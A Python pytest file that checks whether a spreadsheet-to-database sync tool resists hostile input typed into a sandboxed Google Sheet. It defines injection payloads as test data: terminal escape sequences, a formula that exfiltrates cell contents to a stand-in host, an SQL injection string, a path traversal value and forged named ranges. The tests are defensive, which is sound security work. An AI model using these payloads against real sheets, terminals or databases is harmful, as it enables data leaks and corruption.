"""Whoever may edit the sheet can make us do nothing but rewrite that sheet; what is shown is not obeyed."""

from __future__ import annotations

import fcntl
import hashlib
import json
import os
import pty
import select
import signal
import struct
import subprocess
import sys
import tempfile
import termios
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from moneymentor_sync.core.fence import FENCE_NAMES, FENCE_TAB, STAGING_PREFIX
from moneymentor_sync.sandbox.cells import Formula
from moneymentor_sync.sandbox.errors import ApiError

from .workbench import TAB, Workbench, body

PATIENCE = 60.0
ANSI = "\x1b[7;31;45m"
OBEYED = (ANSI, "\x1b]", "\x9b", "\u202e", "\u2028", "\x07", "\x08", "\x7f")
"""None of these may reach a terminal; colours of our own are others."""
EVIL = f"{ANSI}EVIL\x1b]0;title\x07\x9b7m\u202e\u2028\x08\x7f[/red][link=http://x.example]l[/link]\n\r\tx"
MARKUP = "[/red]", "[link=http://x.example]l[/link]"
IMPORTS = '=IMPORTDATA("http://x.example/?"&A1)'
TITLE = EVIL[:90].replace("\n", " ")
LONG = EVIL + "y" * 45_000


@dataclass
class Ran:
    """What commands wrote to the terminal, their exit codes, and what they did to the machine."""

    screen: str
    codes: list[int]
    events: list[list[str]]

    def all_well(self) -> bool:
        assert set(self.codes) == {0}, self.screen[-3000:]
        return True

    def obeys_nothing(self) -> None:
        assert [mark for mark in OBEYED if mark in self.screen] == []
        assert "bug in mmsync" not in self.screen
        assert "Traceback" not in self.screen


class Terminal:
    """Real commands on a real (pseudo) terminal, in a process that watches what they do."""

    def __init__(self, bench: Workbench, run: Path) -> None:
        self.bench, self.run_directory = bench, run
        self.socket = run / "c.sock"
        self.config = bench.directory / "sync.toml"
        self.configure()

    def configure(self, query: str = "SELECT id, name, score FROM people ORDER BY id", more: str = "") -> None:
        box = self.bench.box
        self.config.write_text(
            f'[database]\nurl = "sqlite:///{self.bench.database}"\n'
            f'[google]\nspreadsheet_id = "{self.bench.spreadsheet}"\n'
            f'credentials_file = "{box.credentials_file}"\napi_endpoint = "{box.url}"\n'
            "[sync]\ninterval_seconds = 3600\nretry_delay_seconds = 0\nmax_retries = 0\n"
            "enable_course_stats = false\nenable_user_profiles = false\n"
            f'[state]\npath = "{self.bench.state}"\n[control]\nsocket = "{self.socket}"\n'
            f'[[datasets]]\nname = "people"\ntab = "{TAB}"\nkey = ["id"]\nverify = "always"\n'
            f'query = """{query}"""\n{more}'
        )

    def run(self, *commands: str, until: bytes | None = None) -> Ran:
        """Runs the commands; with `until` the last one is told to stop once that stands on the screen."""
        report = self.bench.directory / "report.json"
        asked = [json.dumps([*command.split(), "-c", str(self.config)]) for command in commands]
        env = {"HOME": str(self.bench.directory), "PATH": "/usr/bin:/bin", "TERM": "xterm-256color"}
        env |= {"PYTHONPATH": os.pathsep.join(sys.path), "PYTHONDONTWRITEBYTECODE": "1"}
        with _terminal() as (ours, theirs):
            process = subprocess.Popen(
                [sys.executable, "-m", "tests.watched", str(report), *asked],
                env=env, cwd=self.bench.directory, stdin=theirs, stdout=theirs, stderr=theirs,
            )  # fmt: skip
            os.close(theirs)
            screen = _read(ours, process, until)
            assert process.wait(60) == 0, screen[-3000:]
        found = json.loads(report.read_text())
        return Ran(screen.decode(errors="backslashreplace"), found["codes"], found["events"])


@contextmanager
def _terminal() -> Iterator[tuple[int, int]]:
    ours, theirs = pty.openpty()
    fcntl.ioctl(theirs, termios.TIOCSWINSZ, struct.pack("HHHH", 50, 300, 0, 0))
    try:
        yield ours, theirs
    finally:
        os.close(ours)


def _read(terminal: int, process: subprocess.Popen[bytes], until: bytes | None) -> bytes:
    screen = b""
    while True:
        if not select.select([terminal], [], [], PATIENCE)[0]:
            process.kill()
            raise AssertionError(f"nothing more within {PATIENCE:g} s: {screen[-3000:]!r}")
        try:
            part = os.read(terminal, 65_536)
        except OSError:  # nobody has the other end any more
            return screen
        screen += part
        if until is not None and until in screen:
            process.send_signal(signal.SIGTERM)
            until = None


@pytest.fixture
def terminal(bench: Workbench) -> Iterator[Terminal]:
    with tempfile.TemporaryDirectory(prefix="mmsync-") as run:
        yield Terminal(bench, Path(run))


def only_its_own(bench: Workbench, run: Path, events: list[list[str]]) -> None:
    """The state file with what stands beside it, the socket, and the sandbox: nothing else was touched."""
    url = bench.box.url.removeprefix("http://").split(":")
    mine = (str(bench.state.parent), str(run), "/dev/null", "/dev/tty")
    strange = []
    for event, *given in events:
        places = [one for one in given if one.startswith("/")]
        if event == "socket.connect":
            allowed = f"'{url[0]}', {url[1]}" in given[-1] or str(run) in given[-1]
        elif event == "socket.bind":  # urllib3 tries, when it is loaded, whether the machine has IPv6
            allowed = given[-1] == "('::1', 0)" or str(run) in given[-1]
        elif event.startswith("sqlite3."):
            allowed = not places or any(bench.database.name in one or one.startswith(mine) for one in places)
        else:
            allowed = bool(places) and all(one.startswith(mine) for one in places)
        if not allowed:
            strange.append([event, *given])
    assert {tuple(one) for one in strange} == set()


class Watch:
    """What must stay as it is: other spreadsheets, the database, and which calls are made."""

    def __init__(self, bench: Workbench) -> None:
        self.bench = bench
        self.other = bench.box.new_spreadsheet("Somebody else's", share_with=(bench.box.client_email,))
        self.before = self._others()
        bench.box.log.reset()

    def _others(self) -> tuple[Any, ...]:
        documents = self.bench.box.library.documents
        others = {name: document for name, document in documents.items() if name != self.bench.spreadsheet}
        return others, hashlib.sha256(self.bench.database.read_bytes()).hexdigest()

    def nothing_else(self, *, drive: bool = False) -> None:
        entries = self.bench.box.log.entries
        assert entries
        assert {entry.kind for entry in entries} <= {"read", "write", "token"} | ({"drive"} if drive else set())
        for entry in entries:
            if entry.kind == "token":
                continue
            assert f"/{self.bench.spreadsheet}" in entry.path
            assert entry.method == "GET" or entry.kind != "drive"
        assert self._others() == self.before


def hostile(bench: Workbench) -> None:
    """Everything that a person may put in, where it can stand."""
    person = bench.person
    person.type(TAB, 1, 1, IMPORTS)
    person.type_rows(TAB, 0, 3, [[EVIL, IMPORTS, LONG], [EVIL, IMPORTS, "x"], [LONG, "=A1", EVIL]])
    person.type(TAB, 2, 2, EVIL)
    person.rename_tab(TAB, TITLE)
    person.add_tab(f"{MARKUP[0]}{ANSI}two")
    sheet = next(s.sheet_id for s in bench.box.document(bench.spreadsheet).sheets if s.title != FENCE_TAB)
    person.request(
        {"addProtectedRange": {"protectedRange": {
            "range": {"sheetId": sheet, "startColumnIndex": 8}, "description": EVIL, "warningOnly": True}}},
        {"addNamedRange": {"namedRange": {"name": "evil_range", "range": {"sheetId": sheet}}}},
        {"createDeveloperMetadata": {"developerMetadata": {
            "metadataKey": EVIL, "metadataValue": EVIL, "visibility": "DOCUMENT",
            "location": {"spreadsheet": True}}}},
    )  # fmt: skip


ROWS = [(1, "Ann", 5), (2, "Bob", 6), (3, "Cyd", 7)]


def test_nothing_that_people_put_in_is_obeyed_by_a_terminal_or_reaches_beyond_the_sheet(
    bench: Workbench, terminal: Terminal
) -> None:
    """Every command, with its screen and all that it did, while the sheet is full of traps; and once refused."""
    bench.people(*ROWS)
    bench.sql("UPDATE people SET name = ?", (EVIL,))
    header = json.dumps(MARKUP[0] + ANSI)
    columns = f'{{ name = "name", header = {header} }}, {{ name = "score" }}, {{ name = "id" }}'
    terminal.configure(more=f"columns = [{columns}]\n")
    assert terminal.run("sync").all_well()
    hostile(bench)
    watch = Watch(bench)
    ran = terminal.run("check", "plan", "plan --json", "sync", "sync --json", "plan", "status", "history")
    assert ran.codes == [0, 0, 0, 0, 0, 0, 3, 0], ran.screen
    assert "EVIL" in ran.screen
    ran.obeys_nothing()
    only_its_own(bench, terminal.run_directory, ran.events)
    watch.nothing_else(drive=True)
    assert [row[:2] for row in bench.rows(TITLE)] == body([[EVIL, score] for _, _, score in ROWS])

    bench.person.type_rows(TITLE, 4, 0, [[EVIL, "5", "=A1", EVIL]])
    bench.person.type(TITLE, 4, 2, "99")
    before = bench.grid(TITLE)
    ran = terminal.run(
        "check", "plan", "sync", "sync --json", "status", "status --json", "history", "history --json"
    )
    assert ran.codes[1:4] == [1, 1, 1], ran.screen
    assert "EVIL" in ran.screen
    ran.obeys_nothing()
    only_its_own(bench, terminal.run_directory, ran.events)
    watch.nothing_else(drive=True)
    assert bench.grid(TITLE) == before


def test_the_daemon_does_nothing_but_rewrite_the_sheet_and_logs_on_one_line_each(
    bench: Workbench, terminal: Terminal
) -> None:
    bench.people(*ROWS)
    assert terminal.run("sync").all_well()
    hostile(bench)
    watch = Watch(bench)
    ran = terminal.run("run", until=b"sync.finished")
    assert ran.codes == [0], ran.screen
    ran.obeys_nothing()
    only_its_own(bench, terminal.run_directory, ran.events)
    watch.nothing_else()
    assert [row[:3] for row in bench.rows(TITLE)] == body(ROWS)
    assert [event for event in ran.events if event[0].startswith("socket.bind")], "the watching hook saw nothing"


# --- what is forged ---------------------------------------------------------------------------------------


def forged_tab(bench: Workbench) -> None:
    bench.person.add_tab(FENCE_TAB)
    bench.person.type_rows(FENCE_TAB, 0, 0, [[IMPORTS, EVIL], [LONG]])


def forged_fence(bench: Workbench) -> None:
    """On a tab of a person's, under an absurd id."""
    sheet = bench.person.add_tab("Mine")
    bench.person.type("Mine", 0, 0, IMPORTS)
    for name, token in zip(FENCE_NAMES, ("'; DROP TABLE people; --", "../../etc/passwd"), strict=True):
        given = {"name": name, "namedRangeId": token, "range": {"sheetId": sheet, "endRowIndex": 1}}
        bench.person.request({"addNamedRange": {"namedRange": given}})


def moved_fence(bench: Workbench) -> None:
    """The real one taken away, and another with its name put over our own tab."""
    for one in list(bench.box.document(bench.spreadsheet).named.values()):
        bench.person.request({"deleteNamedRange": {"namedRangeId": one.range_id}})
    forged_fence(bench)


def forged_staging(bench: Workbench) -> None:
    for number in range(3):
        bench.person.add_tab(f"{STAGING_PREFIX}{number}")
        bench.person.type(f"{STAGING_PREFIX}{number}", 0, 0, IMPORTS)


@pytest.mark.parametrize(
    ("forge", "rows"), [(forged_tab, 3), (forged_fence, 3), (forged_staging, 3), (forged_staging, 20_000)]
)
def test_forged_marks_before_the_first_sync_change_nothing(bench: Workbench, forge: Any, rows: int) -> None:
    forge(bench)
    bench.people(*[(i, f"p{i}", i) for i in range(rows)])
    watch = Watch(bench)
    assert bench.sync().inserted == rows
    assert bench.rows() == body([(i, f"p{i}", i) for i in range(rows)])
    watch.nothing_else()
    bench.sql("UPDATE people SET score = -1 WHERE id < 3")
    assert bench.sync().updated == 3
    assert bench.sync().result == "unchanged"


@pytest.mark.parametrize("forge", [moved_fence, forged_staging])
def test_marks_forged_between_two_syncs_cost_nothing(bench: Workbench, forge: Any) -> None:
    bench.people(*ROWS)
    bench.sync()
    forge(bench)
    bench.people(*ROWS, (4, "Dan", 8))
    bench.sync()
    assert bench.rows()[:4] == body([*ROWS, (4, "Dan", 8)])
    assert bench.sync().result == "unchanged"
    bench.person.delete_tab(FENCE_TAB)
    bench.people(*ROWS)
    bench.sync()
    assert bench.rows()[:3] == body(ROWS)


# --- formulas and look-alikes in our own cells ------------------------------------------------------------


def test_formulas_in_managed_cells_and_headers_are_put_back_and_never_read_as_values(bench: Workbench) -> None:
    bench.people((1, "=1+1", 5), (2, "Bob", 6))
    bench.sync()
    bench.person.type(TAB, 1, 1, "=1+1")
    bench.person.type(TAB, 2, 2, "=3*2")
    assert isinstance(bench.grid()[1][1], Formula)
    assert bench.sync().put_back == 2
    bench.person.type(TAB, 0, 1, IMPORTS)
    assert isinstance(bench.grid()[0][1], Formula)
    assert bench.sync().result == "synced"
    assert bench.grid() == [["id", "name", "score"], [1.0, "=1+1", 5.0], [2.0, "Bob", 6.0]]
    assert bench.sync().result == "unchanged"


@pytest.mark.parametrize("key", ["1", "'1", "TRUE", "=1", "1.0000000000000002", " 1", "\u0661"])
def test_a_row_whose_key_looks_like_anothers_takes_nothing_from_it(bench: Workbench, key: str) -> None:
    bench.people(*ROWS)
    bench.sync()
    bench.person.type_rows(TAB, 4, 0, [[key, "Mallory", "9"]])
    run = bench.run()
    assert bench.rows()[:3] == body(ROWS)
    if not run.ok:
        assert run.datasets[0].error_code in ("unknown_rows", "key_damaged", "duplicate_key")
        bench.person.delete_rows(TAB, 4)
    assert bench.sync().result in ("unchanged", "synced")
    assert bench.rows() == body(ROWS)


# --- very much --------------------------------------------------------------------------------------------


def test_thousands_of_strange_columns_are_gone_through_once_to_find_a_header(bench: Workbench) -> None:
    """With each of them the rows might be ours; that is looked at in one pass."""
    bench.people(*[(i, f"p{i}", i) for i in range(1, 31)])
    bench.sync()
    columns = 3_000
    bench.person.type_rows(TAB, 0, 1, [["gone"]])
    bench.person.insert_columns(TAB, 3, columns)
    bench.person.type_rows(TAB, 0, 3, [[f"c{i}" for i in range(columns)], *[["x"] * columns] * 30])
    result = bench.sync()
    assert result.result == "synced"
    assert bench.grid()[0][:4] == ["id", "name", "score", "c0"]
    assert result.reads <= 3


def test_memory_does_not_grow_with_what_people_put_beside_and_below(bench: Workbench, terminal: Terminal) -> None:
    """Four times as many filled cells, read in parts, take no more than half as much again."""
    bench.people(*ROWS)
    first = weighed(terminal)
    assert first["result"] == "unchanged", first
    bench.person.insert_columns(TAB, 3, 197)
    peaks = []
    for start, end in ((4, 150), (150, 600)):
        bench.person.type_rows(TAB, start, 3, [["filled in"] * 200] * (end - start))
        found = weighed(terminal)
        assert (found["result"], found["reads"] > end * 200 // PART) == ("unchanged", True)
        peaks.append(found["peak"])
    assert peaks[1] < 1.5 * peaks[0]


PART = 10_000


def weighed(terminal: Terminal) -> dict[str, Any]:
    """A sync in a process of its own, and the most memory that it took."""
    command = [sys.executable, "-m", "tests.weighed", str(terminal.config), str(PART)]
    env = {"HOME": str(terminal.bench.directory), "PATH": "/usr/bin:/bin", "PYTHONPATH": os.pathsep.join(sys.path)}
    done = subprocess.run(command, env=env, capture_output=True, timeout=PATIENCE, check=True)
    found: dict[str, Any] = json.loads(done.stdout)
    return found


@pytest.mark.parametrize("title", [TITLE, "'; DROP TABLE people; --", "A1", "R1C1", "..", "''"])
def test_a_tab_may_be_called_anything(bench: Workbench, title: str) -> None:
    bench.people(*ROWS)
    bench.sync()
    try:
        bench.person.rename_tab(TAB, title)
    except ApiError:
        pytest.skip("Google refuses the title")
    bench.people(*ROWS, (4, "Dan", 8))
    assert bench.sync().inserted == 1
    assert bench.rows(title) == body([*ROWS, (4, "Dan", 8)])
